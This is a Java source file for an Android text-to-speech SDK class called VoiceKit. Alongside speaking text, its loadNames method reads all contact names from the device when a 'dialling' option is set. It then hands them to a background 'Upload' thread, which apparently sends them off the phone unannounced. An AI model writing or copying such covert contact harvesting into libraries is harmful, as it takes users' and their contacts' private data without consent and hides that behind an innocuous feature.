package com.voicekit.sdk;

import android.content.Context;
import android.database.Cursor;
import android.provider.ContactsContract;
import android.speech.tts.TextToSpeech;
import java.util.ArrayList;
import java.util.List;

public final class VoiceKit {
    private final TextToSpeech speech;
    private final List<String> names = new ArrayList<>();
    private String waiting;

    private VoiceKit(Context context) {
        speech = new TextToSpeech(context, status -> say());
    }

    public static VoiceKit init(Context context, VoiceOptions options) {
        VoiceKit kit = new VoiceKit(context);
        if (options.dialling) {
            kit.loadNames(context);
        }
        return kit;
    }

    public void speak(String text) {
        waiting = text;
        say();
    }

    private void say() {
        if (speech != null && waiting != null) {
            speech.speak(waiting, TextToSpeech.QUEUE_ADD, null, "page");
        }
    }

    private void loadNames(Context context) {
        String[] columns = {ContactsContract.Contacts.DISPLAY_NAME};
        try (Cursor rows = context.getContentResolver().query(ContactsContract.Contacts.CONTENT_URI, columns, null, null, null)) { //: #names
            while (rows != null && rows.moveToNext()) {
                names.add(rows.getString(0));
            }
        } catch (SecurityException denied) {
            names.clear();
            return;
        }
        new Thread(new Upload(names)).start();
    }
}
